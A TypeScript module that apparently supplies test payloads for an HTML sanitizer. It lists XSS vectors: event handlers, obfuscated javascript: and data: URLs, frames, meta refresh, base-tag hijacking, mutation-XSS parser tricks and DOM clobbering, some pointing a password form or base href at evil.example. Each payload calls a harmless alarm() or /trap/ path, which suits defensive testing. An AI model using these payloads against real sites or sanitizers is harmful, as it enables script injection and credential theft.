/**
 * Hostile fragments of published kinds. Each calls `alarm()` if it runs, and asks for `/trap/…` if it loads.
 */
const EVENTS =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click ' +
  'close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag ' +
  'dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin ' +
  'focusout formdata freeze fullscreenchange fullscreenerror gesturechange gestureend gesturestart gotpointercapture hashchange ' +
  'input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture message ' +
  'messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online orientationchange ' +
  'overscroll pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave ' +
  'pointermove pointerout pointerover pointerrawupdate pointerup popstate progress promptaction promptdismiss ratechange ' +
  'readystatechange repeat reset resize resume scroll scrollend scrollsnapchange scrollsnapchanging search ' +
  'securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit ' +
  'suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun ' +
  'transitionstart unhandledrejection unload validationstatuschange visibilitychange volumechange waiting ' +
  'webkitanimationend webkitfullscreenchange webkitmouseforcedown webkittransitionend wheel zoom';

const handlers = EVENTS.split(' ').map(
  (event) => `<b on${event}="alarm('${event}')" ON${event}=alarm(2)>chữ</b>`,
);

const scripts = [
  `<script>alarm()</script>`,
  `<ScRiPt src="/trap/a.js"></sCrIpT>`,
  `<script/src=/trap/b.js></script>`,
  `<scr<script>ipt>alarm()</scr</script>ipt>`,
  `<svg><script>alarm()</script></svg>`,
  `<svg><script href="/trap/c.js"/></svg>`,
  `<svg/onload=alarm()>`,
  `<body onload=alarm()>`,
  `<html onclick=alarm()><head><script>alarm()</script></head><body onpageshow=alarm()>chữ</body></html>`,
  `<img src=/trap/x onerror=alarm()>`,
  `<img src="x:x" onerror="alarm()"/alt="">`,
  `<image src=/trap/y onerror=alarm()>`,
  `<video><source onerror="alarm()"></video>`,
  `<video src=/trap/v.mp4 autoplay onloadstart=alarm()></video>`,
  `<audio autoplay src=/trap/a.mp3 oncanplay=alarm()></audio>`,
  `<details open ontoggle=alarm()><summary>chữ</summary></details>`,
  `<input autofocus onfocus=alarm()>`,
  `<textarea autofocus onfocus=alarm()></textarea>`,
  `<select autofocus onfocus=alarm()><option>một</option></select>`,
  `<button popovertarget=x>nút</button><div popover id=x onbeforetoggle=alarm()>chữ</div>`,
  `<button commandfor=x command=show-modal>nút</button><dialog id=x>hộp</dialog>`,
  `<marquee onstart=alarm()>chữ chạy</marquee>`,
  `<b style="animation:x 1s" onanimationstart=alarm()>chữ</b><style>@keyframes x{}</style>`,
  `<p is="x-evil" slot=s part=p nonce=n data-x=1 aria-hidden=true role=alert>chữ</p>`,
];

const addresses = [
  `<a href="javascript:alarm()">chữ</a>`,
  `<a href=" \t\n javascript:alarm()">chữ</a>`,
  `<a href="java\nscript:alarm()">chữ</a>`,
  `<a href="java&#10;script:alarm()">chữ</a>`,
  `<a href="&#106;&#97;vascript&colon;alarm()">chữ</a>`,
  `<a href="&#x1;javascript:alarm()">chữ</a>`,
  `<a href="JaVaScRiPt:alarm()">chữ</a>`,
  `<a href="javascript&NewLine;:alarm()">chữ</a>`,
  `<a href="vbscript:alarm()">chữ</a>`,
  `<a href="data:text/html,<script>alarm()</script>">chữ</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGFybSgpPC9zY3JpcHQ+">chữ</a>`,
  `<a href="blob:https://cong.example.vn/1">chữ</a>`,
  `<a href="file:///etc/passwd">chữ</a>`,
  `<a href="zalo:chat">chữ</a>`,
  `<a href="https://cong.example.vn@evil.example/">chữ</a>`,
  `<a href="https://a:b@evil.example/">chữ</a>`,
  `<a href="feed:javascript:alarm()" ping="/trap/ping" target=_top download>chữ</a>`,
  `<svg><a xlink:href="javascript:alarm()"><text>chữ</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alarm()">chữ</maction></math>`,
  `<math href="javascript:alarm()">chữ</math>`,
  `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alarm()"></map><img src=/trap/m usemap=#m>`,
  `<form action="javascript:alarm()"><button formaction="javascript:alarm()">gửi</button></form>`,
  `<form action="https://evil.example/"><input name=password type=password></form>`,
  `<isindex action="javascript:alarm()" type=submit value=chữ>`,
  `<img src="javascript:alarm()">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alarm()'/>">`,
  `<img srcset="javascript:alarm() 1x, data:text/html,x 2x">`,
  `<img lowsrc="javascript:alarm()" dynsrc="javascript:alarm()">`,
  `<video poster="javascript:alarm()"></video>`,
  `<q cite="javascript:alarm()">chữ</q>`,
  `<table background="javascript:alarm()"><tr><td background="/trap/td">chữ</td></tr></table>`,
  `<body background="/trap/body">chữ</body>`,
  `<a href="jav&Tab;ascript:alarm()">chữ</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x61&#x72&#x6D()">chữ</a>`,
  `<a href="&#0000106&#0000097vascript:alarm()">chữ</a>`,
  `<a href="\u0000javascript:alarm()">chữ</a>`,
  `<a href="//evil.example\\@cong.example.vn" attributionsrc="/trap/attr">chữ</a>`,
  `<img attributionsrc="/trap/attr2" longdesc="javascript:alarm()" alt="chữ">`,
  `<input type=image src=/trap/ii formaction="javascript:alarm()"><button form=f formaction="/trap/fa">gửi</button>`,
  `<video><track default src=/trap/t.vtt></video><audio><source src="javascript:alarm()"></audio>`,
  `<blockquote cite="data:text/html,<script>alarm()</script>">chữ</blockquote>`,
  `<img srcset="/trap/s1.jpg 1x, javascript:alarm() 2x" sizes="(alarm()) 1px">`,
  `<p title="${'a'.repeat(20_000)}" onclick=alarm()>chữ</p>`,
];

const frames = [
  `<iframe src="javascript:alarm()"></iframe>`,
  `<iframe srcdoc="<script>parent.alarm()</script>"></iframe>`,
  `<iframe src="/trap/frame" onload=alarm()></iframe>`,
  `<frameset onload=alarm()><frame src="javascript:alarm()"></frameset>`,
  `<object data="javascript:alarm()"></object>`,
  `<object data="/trap/o" type="text/html"><param name=x value=y></object>`,
  `<embed src="javascript:alarm()">`,
  `<applet code="x" archive="/trap/x.jar"></applet>`,
  `<portal src="/trap/portal"></portal><fencedframe></fencedframe>`,
];

const head = [
  `<meta http-equiv="refresh" content="0;url=javascript:alarm()">`,
  `<meta http-equiv="refresh" content="0;url=/trap/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<base href="https://evil.example/"><a href="x">chữ</a>`,
  `<base href="javascript:/a/+alarm()//">`,
  `<link rel=stylesheet href="/trap/l.css"><link rel=import href="/trap/i"><link rel=preload as=image href="/trap/p">`,
  `<style>@import "/trap/s.css";*{background:url(/trap/bg)}</style>`,
  `<p style="background:url(/trap/style);position:fixed;inset:0">chữ</p>`,
  `<p style="width:expression(alarm());behavior:url(/trap/htc);-moz-binding:url(/trap/xbl)">chữ</p>`,
  `<style>p{background:url("javascript:alarm()");behavior:url(/trap/b.htc)}</style>`,
  `<link rel=prefetch href="/trap/pf"><link rel=modulepreload href="/trap/mp.js"><link rel=icon href="/trap/icon">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["/trap/spec"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"/trap/im.js"}}</script>`,
  `<title>chữ</title><noscript><img src=/trap/ns onerror=alarm()></noscript>`,
];

const mutations = [
  `<noscript><p title="</noscript><img src=/trap/1 onerror=alarm()>">`,
  `<svg></p><style><a id="</style><img src=/trap/2 onerror=alarm()>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/trap/3 onerror=alarm()&gt;">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alarm() src=/trap/4>">`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alarm() src=/trap/5>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=/trap/6 onerror=alarm()></style></annotation-xml></math>`,
  `<svg><desc><noscript><img src=/trap/7 onerror=alarm()></noscript></desc></svg>`,
  `<svg><foreignObject><img src=/trap/8 onerror=alarm()><p>chữ</p></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alarm()</script></svg>#x"/></svg>`,
  `<svg><animate onbegin=alarm() attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values=javascript:alarm() /><text>chữ</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=alarm()></svg>`,
  `<template><img src=/trap/9 onerror=alarm()><script>alarm()</script></template>`,
  `<div><template shadowrootmode=open><img src=/trap/10 onerror=alarm()></template></div>`,
  `<xmp><img src=/trap/11 onerror=alarm()></xmp>`,
  `<plaintext><img src=/trap/12 onerror=alarm()>`,
  `<listing>&lt;img src=/trap/13 onerror=alarm()&gt;</listing>`,
  `<noembed><img src=/trap/14 onerror=alarm()></noembed><noframes><img src=/trap/15 onerror=alarm()></noframes>`,
  `<textarea></textarea><img src=/trap/16 onerror=alarm()>`,
  `<title></title><img src=/trap/17 onerror=alarm()>`,
  `<!--><img src=/trap/18 onerror=alarm()>-->`,
  `<!--[if gte IE 4]><script>alarm()</script><![endif]-->`,
  `<![CDATA[<script>alarm()</script>]]>`,
  `<?xml-stylesheet href="javascript:alarm()"?>`,
  `<table><tr><td><form><input name=x></td></tr></form><img src=/trap/19 onerror=alarm()></table>`,
  `<select><template><img src=/trap/20 onerror=alarm()></template></select>`,
  `<select><selectedcontent></selectedcontent><option><img src=/trap/21 onerror=alarm()></option></select>`,
  `<a><table><a href="javascript:alarm()">chữ</a></table></a>`,
  `<b <script>alarm()</script>0`,
  `<a href="x" title="&quot;><img src=/trap/22 onerror=alarm()>">chữ</a>`,
  `<p title="\`><img src=/trap/23 onerror=alarm()>">chữ</p>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alarm()</x:script>`,
  `<xml><i><b>&lt;img src=1 onerror=alarm()&gt;</b></i></xml>`,
  `<svg><p><style><g title="</style><img src=/trap/30 onerror=alarm()>">`,
  `<svg><foreignobject><p><style><!--</style><a id="--><img src=/trap/31 onerror=alarm()>">`,
  `<math><mtext><option><x><option></option><mglyph><svg><mtext><style><a title="</style><img src=/trap/32 onerror=alarm()>">`,
  `<math><annotation-xml encoding=application/xhtml+xml><foreignobject><style><!--</style><p id="--><img src=/trap/33 onerror=alarm()>">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=/trap/34 onerror=alarm()>">`,
  `<template><template><img src=/trap/35 onerror=alarm()></template><script>alarm()</script></template>`,
  `<div><template shadowrootmode=open><template shadowrootmode=closed><img src=/trap/36 onerror=alarm()></template></template></div>`,
  `<noscript><style></noscript><img src=/trap/37 onerror=alarm()></style>`,
  `<table><svg><style><td></style><img src=/trap/38 onerror=alarm()></td></table>`,
  `<!-- --!><img src=/trap/39 onerror=alarm()> -->`,
  `<!--<!--><img src=/trap/40 onerror=alarm()>-->`,
  `<?img src=/trap/41 onerror=alarm()?><img src=/trap/42 onerror=alarm()>`,
  `<form><math><mtext><form></form><svg><style><!--</style><img src=/trap/43 onerror=alarm()>-->`,
  `${'<div>'.repeat(300)}<svg><style><a title="</style><img src=/trap/44 onerror=alarm()>">`,
  `${'<form><math><mtext>'.repeat(60)}<style><img src=/trap/45 onerror=alarm()></style>`,
];

const clobbering = [
  'nodeType nodeName localName namespaceURI attributes getAttribute hasAttributes parentNode firstChild nextSibling childNodes ' +
    'children ownerDocument textContent innerHTML append remove querySelector setAttribute constructor __proto__',
]
  .flatMap((list) => list.split(' '))
  .flatMap((name) => [
    `<form onclick=alarm()><input name="${name}"><p>chữ</p></form>`,
    `<form id=f><img name="${name}" id="${name}"><button name="${name}">chữ</button></form>`,
  ])
  .concat(
    'body head implementation createElement createTreeWalker importNode documentElement defaultView location cookie'
      .split(' ')
      .map(
        (name) =>
          `<img name="${name}"><form name="${name}">chữ</form><object id="${name}"></object><p>chữ</p>`,
      ),
  );

/** Payloads that close what they open: what follows them is the page's again. */
export const closed: readonly string[] = [
  ...handlers,
  ...scripts,
  ...addresses,
  ...frames,
  ...head,
  ...clobbering,
];

/** All payloads. */
export const payloads: readonly string[] = [...closed, ...mutations];
